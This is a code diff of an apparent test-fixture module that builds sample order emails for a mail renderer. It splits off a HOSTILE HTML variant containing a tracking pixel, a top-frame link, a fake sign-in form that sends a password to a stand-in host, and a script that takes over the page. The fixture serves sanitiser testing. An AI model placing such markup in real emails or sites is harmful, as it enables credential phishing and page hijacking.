@@ -18,9 +18,14 @@ ORDER = """<html><body style="font-family: sans-serif; background: #f4f6f8; padd
 <p>Your order 10-4410 is on its way. It should be with you on Thursday.</p>
 <p><a href="https://storefront.example/orders/10-4410?t=9c1f2ab" style="background: #0a6; color: #fff; padding: 8px 16px;
 text-decoration: none; border-radius: 6px">Follow your order</a></p>
-<img src="http://tracker.invalid/open.gif" alt="">
-<script>parent.document.title = "taken over"; document.body.innerHTML = "taken over"</script>
 </td></tr></table></body></html>"""
+
+HOSTILE = ORDER.replace(
+    "</body>",
+    """<a href="https://storefront.example/elsewhere" target="_top">Leave</a><img src="http://tracker.invalid/open.gif" alt="">
+<form action="http://tracker.invalid/"><input name="password"><button>Sign in</button></form>
+<script>parent.document.title = document.body.innerHTML = "taken over"</script></body>""",
+)
 
 
 def a_mail(subject: str = "Your order", to: str = "ines@example.com") -> EmailMessage:
@@ -31,11 +36,11 @@ def a_mail(subject: str = "Your order", to: str = "ines@example.com") -> EmailMe
     return mail
 
 
-def a_rich_mail() -> EmailMessage:
-    """The same with HTML that tries things, a picture inside, and a file."""
+def a_rich_mail(html: str = ORDER) -> EmailMessage:
+    """The same with HTML, a picture inside, and a file."""
     mail = a_mail("Your order 10-4410 is on its way")
     mail["Date"] = "Thu, 26 Nov 2026 09:14:00 +0000"
-    mail.add_alternative(ORDER, subtype="html")
+    mail.add_alternative(html, subtype="html")
     mail.get_payload()[1].add_related(PIXEL, "image", "png", cid="<logo>")
     mail.add_attachment(b"%PDF-1.4", maintype="application", subtype="pdf", filename="Invoice 10-4410.pdf")
     return mail
